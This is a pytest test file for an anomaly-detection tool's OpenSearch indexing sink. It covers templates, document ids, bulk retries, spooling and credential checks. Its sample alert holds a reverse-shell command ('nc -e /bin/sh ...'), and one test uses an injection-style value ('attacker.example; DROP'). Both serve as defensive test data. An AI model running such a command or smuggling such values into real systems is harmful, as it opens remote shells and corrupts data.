"""Anomaly documents in the indexer (issue 18 part 2): template, ids, bulk writes, the spool.

Against the fake indexer (tests/fake_indexer.py), which answers bulk items as OpenSearch does
(201, 409 on an id already there, 400 for a value an ip field cannot take) and can make items or
whole requests fail. The same sink against a real node: tests/test_index_sink_node.py.
"""
from __future__ import annotations

import json
import os
import random

import pytest
from fake_indexer import FakeIndexer

from mimizuku.core.spool import Spool
from mimizuku.delivery.index_docs import (
    DEFAULT_STREAM,
    build_document,
    doc_id,
    index_template,
    ism_policy,
    template_fields,
    utc_timestamp,
)
from mimizuku.delivery.index_sink import (
    IndexClient,
    IndexConfigError,
    IndexSink,
    load_index_credentials,
)

USER, PASSWORD = "mimizuku", "s3cret-Pa55"


def record(i, *, anomaly=True, detector="commands", srcip="10.0.0.7", **extra):
    r = {"id": f"1732000000.{i}", "timestamp": "2026-11-20T10:00:00.123+0100",
         "agent": {"id": "001", "name": "web-1", "ip": "192.168.1.10"},
         "rule": {"id": "80792", "level": 3, "description": "Audit: command", "groups": ["audit"]},
         "location": "/var/log/audit/audit.log", "detector": detector, "score": 0.97, "score_pct": 97,
         "threshold": 0.9, "anomaly": anomaly, "severity": "high" if anomaly else "none",
         "reasons": ["never ran nc -e on web-1"] if anomaly else [], "scores": {"commands": 0.97, "context": 0.2},
         "fields": {"command": "nc -e /bin/sh 10.0.0.7 4444", "user": "www-data", "srcip": srcip},
         "model_version": "20261120T000000Z-abc",
         "mitre": {"id": "T1059.004", "technique": "Unix Shell", "tactic": "execution", "table": "1"},
         "story": {"of": "1732000000.1", "since": "2026-11-20T09:58:00+0100", "anomalies": 2, "duration_s": 120.0}}
    r.update(extra)
    return r


class Clock:
    def __init__(self):
        self.t = 1000.0

    def __call__(self):
        return self.t


@pytest.fixture
def fake():
    with FakeIndexer(user=USER, password=PASSWORD) as f:
        yield f


@pytest.fixture
def creds_file(tmp_path):
    p = tmp_path / "indexer.json"
    p.write_text(json.dumps({"username": USER, "password": PASSWORD}))
    os.chmod(p, 0o600)
    return p


def make_sink(fake, tmp_path, creds_file, **kw):
    creds = load_index_credentials(fake.url, creds_file, env={})
    kw.setdefault("clock", Clock())
    kw.setdefault("linger", 0.0)
    kw.setdefault("rng", random.Random(0))
    return IndexSink(IndexClient(creds, timeout=(2.0, 5.0)), tmp_path / "spool" / "index", **kw)


# --- documents ------------------------------------------------------------------------------------

def test_template_is_a_data_stream_with_typed_fields():
    t = index_template()
    assert t["index_patterns"] == [DEFAULT_STREAM] and t["data_stream"] == {}
    props = t["template"]["mappings"]["properties"]
    assert props["@timestamp"]["type"] == "date"
    assert props["mimizuku"]["properties"]["score"]["type"] == "float"
    assert props["mimizuku"]["properties"]["score_pct"]["type"] == "integer"
    assert props["mimizuku"]["properties"]["reasons"] == {"type": "text", "fields": {"keyword": {
        "type": "keyword", "ignore_above": 1024}}}
    for kw in ("severity", "detector", "model_version"):
        assert props["mimizuku"]["properties"][kw]["type"] == "keyword"
    assert props["agent"]["properties"]["ip"]["type"] == "ip" and props["srcip"]["type"] == "ip"
    assert props["fields"]["properties"]["srcip"]["type"] == "keyword"   # the text as written
    assert props["rule"]["properties"]["level"]["type"] == "integer"
    names = set(template_fields(t))
    assert {"mitre.id", "mitre.technique", "mitre.tactic", "agent.id", "agent.name", "rule.id",
            "source.alert_id", "manager.name", "story.of", "episode.of"} <= names
    assert t["template"]["mappings"]["dynamic"] is False


def test_ism_policy_deletes_after_the_retention():
    p = ism_policy(retention_days=30)["policy"]
    hot, delete = p["states"]
    assert hot["transitions"][0] == {"state_name": "delete", "conditions": {"min_index_age": "30d"}}
    assert "rollover" in hot["actions"][0] and delete["actions"] == [{"delete": {}}]
    assert p["ism_template"][0]["index_patterns"] == [DEFAULT_STREAM]


def test_document_carries_the_alert_identity_reasons_and_mitre():
    d = build_document(record(5), "manager-a")
    assert d["@timestamp"] == "2026-11-20T09:00:00.123Z"   # the alert's own time, in UTC
    assert d["manager"] == {"name": "manager-a"}
    assert d["source"]["alert_id"] == "1732000000.5" and d["source"]["timestamp"] == "2026-11-20T10:00:00.123+0100"
    assert d["agent"]["ip"] == "192.168.1.10" and d["srcip"] == "10.0.0.7"
    assert d["mimizuku"]["reasons"] == ["never ran nc -e on web-1"] and d["mimizuku"]["score_pct"] == 97
    assert d["mitre"]["id"] == "T1059.004" and d["story"]["anomalies"] == 2


def test_a_value_that_is_not_an_address_never_goes_to_an_ip_field():
    d = build_document(record(1, srcip="attacker.example; DROP", agent={"id": "1", "name": "x", "ip": "any"}))
    assert "srcip" not in d and d["fields"]["srcip"] == "attacker.example; DROP"
    assert "ip" not in d["agent"] and d["agent"]["address"] == "any"


def test_timestamps():
    assert utc_timestamp("2026-11-20T10:00:00Z") == "2026-11-20T10:00:00.000Z"
    assert utc_timestamp("2026-11-20T10:00:00.5-0200") == "2026-11-20T12:00:00.500Z"
    assert utc_timestamp("yesterday") is None and utc_timestamp("2026-11-20T10:00:00") is None


def test_ids_are_stable_and_tell_manager_alert_and_detector_apart():
    a = doc_id("m1", "1732000000.5", "commands")
    assert a == doc_id("m1", "1732000000.5", "commands") and len(a) == 32
    assert len({a, doc_id("m2", "1732000000.5", "commands"), doc_id("m1", "1732000000.6", "commands"),
                doc_id("m1", "1732000000.5", "files")}) == 4


# --- credentials and TLS --------------------------------------------------------------------------

def test_credentials_file_must_be_private(tmp_path, creds_file):
    os.chmod(creds_file, 0o640)
    with pytest.raises(IndexConfigError, match="chmod 600"):
        load_index_credentials("https://indexer:9200", creds_file, env={})


def test_tls_verified_by_default_and_password_hidden(creds_file):
    c = load_index_credentials("https://indexer:9200", creds_file, env={})
    assert c.tls_verify is True and PASSWORD not in repr(c)
    client = IndexClient(c)
    assert client.session.verify is True and client.session.trust_env is False


def test_plain_http_refused_except_loopback_or_explicitly(tmp_path, creds_file):
    with pytest.raises(IndexConfigError, match="in clear"):
        load_index_credentials("http://indexer.example:9200", creds_file, env={})
    assert load_index_credentials("http://127.0.0.1:9200", creds_file, env={}).url == "http://127.0.0.1:9200"
    p = tmp_path / "allow.json"
    p.write_text(json.dumps({"username": USER, "password": PASSWORD, "allow_http": True}))
    os.chmod(p, 0o600)
    assert load_index_credentials("http://indexer.example:9200", p, env={}).allow_http


def test_url_with_credentials_refused(creds_file):
    with pytest.raises(IndexConfigError, match="never on a command line"):
        load_index_credentials(f"https://u:{PASSWORD}@indexer:9200", creds_file, env={})


# --- bulk writes ----------------------------------------------------------------------------------

def test_documents_indexed_with_template_and_policy(fake, tmp_path, creds_file):
    sink = make_sink(fake, tmp_path, creds_file, manager="m1")
    n = sink.add([record(i) for i in range(10)] + [record(99, anomaly=False)])
    assert n == 10   # anomalies only by default
    docs = fake.stream_docs(DEFAULT_STREAM)
    assert len(docs) == 10 and sink.pending() == 0
    assert DEFAULT_STREAM in fake.templates and fake.templates[DEFAULT_STREAM]["data_stream"] == {}
    assert DEFAULT_STREAM in fake.ism_policies and sink.ism == "installed"
    bulks = [r for r in fake.requests if r[1].endswith("/_bulk")]
    assert len(bulks) == 1 and b'"create"' in bulks[0][2]
    assert docs[doc_id("m1", "1732000000.3", "commands")]["source"]["alert_id"] == "1732000000.3"


def test_all_scores_indexes_every_record(fake, tmp_path, creds_file):
    sink = make_sink(fake, tmp_path, creds_file, all_scores=True)
    sink.add([record(1), record(2, anomaly=False)])
    assert len(fake.stream_docs(DEFAULT_STREAM)) == 2


def test_manager_comes_from_the_alert(fake, tmp_path, creds_file):
    sink = make_sink(fake, tmp_path, creds_file, manager="fallback")
    sink.add([(record(1), {"manager": {"name": "node-2"}}), record(2)])
    names = sorted(d["manager"]["name"] for d in fake.stream_docs(DEFAULT_STREAM).values())
    assert names == ["fallback", "node-2"]


def test_resend_is_a_409_counted_as_delivered_not_a_second_document(fake, tmp_path, creds_file):
    sink = make_sink(fake, tmp_path, creds_file)
    sink.add([record(i) for i in range(5)])
    sink.add([record(i) for i in range(5)])
    assert len(fake.stream_docs(DEFAULT_STREAM)) == 5
    assert sink.totals.created == 5 and sink.totals.duplicates == 5 and sink.pending() == 0
    assert fake.bulk_items.count(409) == 5


def test_partial_failure_resends_only_the_failed_items(fake, tmp_path, creds_file):
    clock = Clock()
    sink = make_sink(fake, tmp_path, creds_file, clock=clock)
    fake.fail_items([None, 429, None, 503, None])
    sink.add([record(i) for i in range(5)])
    assert len(fake.stream_docs(DEFAULT_STREAM)) == 3 and sink.pending() == 1
    assert sink.retry_at > clock.t   # backing off
    sink.flush()
    assert len(fake.stream_docs(DEFAULT_STREAM)) == 3   # not before the backoff
    clock.t = sink.retry_at
    sink.flush()
    bulks = [r for r in fake.requests if r[1].endswith("/_bulk")]
    assert len(bulks) == 2 and bulks[1][2].count(b'"create"') == 2   # only the two that failed
    assert len(fake.stream_docs(DEFAULT_STREAM)) == 5 and sink.pending() == 0
    assert 409 not in fake.bulk_items


def test_mapping_error_goes_to_the_dead_letter_spool_without_blocking(fake, tmp_path, creds_file):
    logs = []
    sink = make_sink(fake, tmp_path, creds_file, log=lambda lvl, msg: logs.append((lvl, msg)))
    fake.fail_items([None, 400])
    sink.add([record(i) for i in range(4)])
    assert len(fake.stream_docs(DEFAULT_STREAM)) == 3 and sink.pending() == 0
    dead = list(Spool(tmp_path / "spool" / "index-rejected").items())
    assert len(dead) == 1 and dead[0][1]["status"] == 400 and json.loads(dead[0][1]["doc"])["source"]
    assert any(lvl == "error" and "set aside" in msg for lvl, msg in logs)


def test_spooled_while_down_then_drained_in_order(tmp_path, creds_file):
    with FakeIndexer(user=USER, password=PASSWORD) as f:
        port_url = f.url
    clock = Clock()
    creds = load_index_credentials(port_url, creds_file, env={})
    sink = IndexSink(IndexClient(creds, timeout=(1.0, 2.0)), tmp_path / "spool" / "index", clock=clock,
                     linger=0.0, rng=random.Random(0))
    for k in range(3):
        sink.add([record(10 * k + i) for i in range(4)])   # the indexer is down: kept
    assert sink.pending() == 3 and sink.retry_at > clock.t
    # the indexer comes back on the same port
    host, port = port_url.rsplit(":", 1)
    f2 = FakeIndexer(user=USER, password=PASSWORD)
    f2.server.server_close()
    from http.server import ThreadingHTTPServer

    from fake_indexer import _handler
    f2.server = ThreadingHTTPServer(("127.0.0.1", int(port)), _handler(f2))
    f2.server.daemon_threads = True
    import threading
    f2.thread = threading.Thread(target=f2.server.serve_forever, daemon=True)
    with f2:
        clock.t = sink.retry_at
        sink.flush()
        assert sink.pending() == 0 and len(f2.stream_docs(DEFAULT_STREAM)) == 12
        ids = [json.loads(line)["create"]["_id"] for r in f2.requests if r[1].endswith("/_bulk")
               for line in r[2].split(b"\n")[0::2] if line]
        assert ids == [doc_id(None, f"1732000000.{10 * k + i}", "commands") for k in range(3) for i in range(4)]


def test_a_restarted_sink_resends_a_half_delivered_item_without_duplicates(fake, tmp_path, creds_file):
    sink = make_sink(fake, tmp_path, creds_file)
    fake.fail_items([None, 503, None])
    sink.add([record(i) for i in range(3)])
    assert sink.pending() == 1
    again = make_sink(fake, tmp_path, creds_file)   # a new process: it knows nothing of the first
    again.flush()
    assert again.pending() == 0 and len(fake.stream_docs(DEFAULT_STREAM)) == 3
    assert again.totals.duplicates == 2 and again.totals.created == 1


def test_node_without_ism_still_takes_documents(fake, tmp_path, creds_file):
    logs = []
    fake.ism_supported = False
    sink = make_sink(fake, tmp_path, creds_file, log=lambda lvl, msg: logs.append((lvl, msg)))
    sink.add([record(1)])
    assert sink.ism == "absent" and len(fake.stream_docs(DEFAULT_STREAM)) == 1
    assert any("Index State Management" in m for _, m in logs)


def test_refused_credentials_keep_the_documents(fake, tmp_path):
    p = tmp_path / "bad.json"
    p.write_text(json.dumps({"username": USER, "password": "wrong"}))
    os.chmod(p, 0o600)
    logs = []
    sink = make_sink(fake, tmp_path, p, log=lambda lvl, msg: logs.append((lvl, msg)))
    sink.add([record(1)])
    assert sink.pending() == 1 and not fake.stream_docs(DEFAULT_STREAM)
    assert not any("wrong" in m for _, m in logs)


def test_whole_request_failure_backs_off_with_jitter(fake, tmp_path, creds_file):
    clock = Clock()
    sink = make_sink(fake, tmp_path, creds_file, clock=clock, retry_base=2.0)
    sink.add([record(1)])   # set up
    fake.fail_next(503, times=3)
    waits = []
    for _ in range(3):
        sink.add([record(len(waits) + 10)])
        waits.append(sink.retry_at - clock.t)
        clock.t = sink.retry_at
    assert 1.0 <= waits[0] <= 2.0 and 2.0 <= waits[1] <= 4.0 and 4.0 <= waits[2] <= 8.0
    sink.flush()
    assert sink.pending() == 0 and len(fake.stream_docs(DEFAULT_STREAM)) == 4


def test_linger_batches_small_adds(fake, tmp_path, creds_file):
    clock = Clock()
    sink = make_sink(fake, tmp_path, creds_file, clock=clock, linger=1.0, batch_docs=100)
    for i in range(5):
        sink.add([record(i)])
    assert sink.pending() == 5 and not [r for r in fake.requests if r[1].endswith("/_bulk")]
    clock.t += 1.0
    sink.flush()
    bulks = [r for r in fake.requests if r[1].endswith("/_bulk")]
    assert len(bulks) == 1 and sink.pending() == 0


# --- the nightly job's deliver step ----------------------------------------------------------------

def _index_cfg(url, creds, **kw):
    from types import SimpleNamespace

    base = dict(index_url=url, index_credentials=creds, index_all_scores=False, index_stream=DEFAULT_STREAM,
                index_retention_days=30)
    base.update(kw)
    return SimpleNamespace(**base)


def test_nightly_deliver_writes_the_day_next_to_sql_and_syslog(fake, tmp_path, creds_file):
    from mimizuku.nightly import day_analysis as batch

    records = [record(i, manager="node-1") for i in range(6)] + [record(50, anomaly=False)]
    out = batch.deliver(records, {"run_id": "x"}, sql_url=None, spool_root=tmp_path / "spool", syslog=False,
                        index=_index_cfg(fake.url, creds_file))
    assert out.counts["index"] == {"created": 6, "duplicates": 0, "rejected": 0, "spooled": 0} and not out.warnings
    docs = fake.stream_docs(DEFAULT_STREAM)
    assert {d["manager"]["name"] for d in docs.values()} == {"node-1"}
    assert fake.ism_policies[DEFAULT_STREAM]["policy"]["states"][0]["transitions"][0]["conditions"] == {
        "min_index_age": "30d"}
    again = batch.deliver(records, {"run_id": "x"}, sql_url=None, spool_root=tmp_path / "spool", syslog=False,
                          index=_index_cfg(fake.url, creds_file))
    assert again.counts["index"]["duplicates"] == 6 and len(fake.stream_docs(DEFAULT_STREAM)) == 6


def test_nightly_deliver_with_the_indexer_down_is_a_warning_and_keeps_the_documents(tmp_path, creds_file):
    from mimizuku.nightly import day_analysis as batch

    with FakeIndexer(user=USER, password=PASSWORD) as gone:
        url = gone.url
    out = batch.deliver([record(i) for i in range(3)], {"run_id": "x"}, sql_url=None,
                        spool_root=tmp_path / "spool", syslog=False, index=_index_cfg(url, creds_file))
    assert out.counts["index"]["spooled"] == 1 and out.warnings[0].startswith("index:")
    assert len(Spool(tmp_path / "spool" / "index")) == 1


def test_retrain_and_serve_declare_the_same_index_options():
    from mimizuku.nightly.config import RetrainConfig
    from mimizuku.serve.config import ServeConfig

    for name in ("index_url", "index_credentials", "index_all_scores", "index_stream", "index_retention_days"):
        assert RetrainConfig.setting(name).help == ServeConfig.setting(name).help


def test_the_sending_thread_keeps_a_slow_indexer_off_the_callers_path(fake, tmp_path, creds_file):
    import time

    sink = make_sink(fake, tmp_path, creds_file, clock=time.monotonic, linger=0.05).start()
    try:
        sink.add([record(0)])
        deadline = time.monotonic() + 10
        while len(fake.stream_docs(DEFAULT_STREAM)) < 1 and time.monotonic() < deadline:
            time.sleep(0.01)
        fake.delay_next(1.5)   # the next bulk takes 1.5 s
        t0 = time.monotonic()
        for i in range(1, 40):
            sink.add([record(i)])
            time.sleep(0.005)
        assert time.monotonic() - t0 < 1.2   # the adds did not wait for the slow bulk
    finally:
        sink.close(timeout=10)
    assert len(fake.stream_docs(DEFAULT_STREAM)) == 40 and sink.pending() == 0


def test_retrain_options_reach_the_config(tmp_path):
    import argparse

    from mimizuku.nightly.cli import add_parser
    from mimizuku.nightly.config import RetrainConfig

    ap = argparse.ArgumentParser()
    add_parser(ap.add_subparsers())
    c = RetrainConfig.from_args(ap.parse_args(["retrain", "--index-url", "https://indexer:9200", "--index-all-scores",
                                               "--index-credentials", str(tmp_path / "c.json"),
                                               "--index-retention-days", "30"]))
    assert (c.index_url, c.index_all_scores, c.index_retention_days) == ("https://indexer:9200", True, 30)
    assert c.index_credentials == tmp_path / "c.json" and c.index_stream == DEFAULT_STREAM
    assert RetrainConfig.from_args(ap.parse_args(["retrain"])).index_url is None
    assert RetrainConfig.from_args(ap.parse_args(["retrain", "--index-url"])).index_url == ""


def test_a_backlog_is_drained_without_waiting_the_linger_between_bulks(fake, tmp_path, creds_file):
    first = make_sink(fake, tmp_path, creds_file, linger=10.0, batch_docs=2)
    first.client.base = "http://127.0.0.1:1"   # down: everything stays in the spool
    for k in range(3):
        first.add([record(2 * k), record(2 * k + 1)])
    assert first.pending() == 3
    again = make_sink(fake, tmp_path, creds_file, linger=10.0, batch_docs=2)   # restarted, same clock time
    again.flush()
    assert again.pending() == 0 and len(fake.stream_docs(DEFAULT_STREAM)) == 6 and again.requests == 3


def test_a_spool_item_that_would_break_the_bulk_framing_is_set_aside(fake, tmp_path, creds_file):
    sink = make_sink(fake, tmp_path, creds_file)
    sink.spool.put({"v": 1, "docs": [["x", '{"@timestamp":"2026-11-20T00:00:00Z"}\n{"create":{"_id":"y"}}']]})
    sink.add([record(1)])
    assert sink.pending() == 0 and len(fake.stream_docs(DEFAULT_STREAM)) == 1
    assert len(list((tmp_path / "spool" / "index").glob("*.bad"))) == 1


def test_a_stream_name_opensearch_refuses_is_refused_at_start():
    from mimizuku.serve.config import ServeConfig

    with pytest.raises(ValueError, match="--index-stream"):
        ServeConfig(index_url="https://indexer:9200", index_stream="Mimizuku Anomalies")
    assert ServeConfig(index_stream="mimizuku-anomalies-x").index_stream == "mimizuku-anomalies-x"
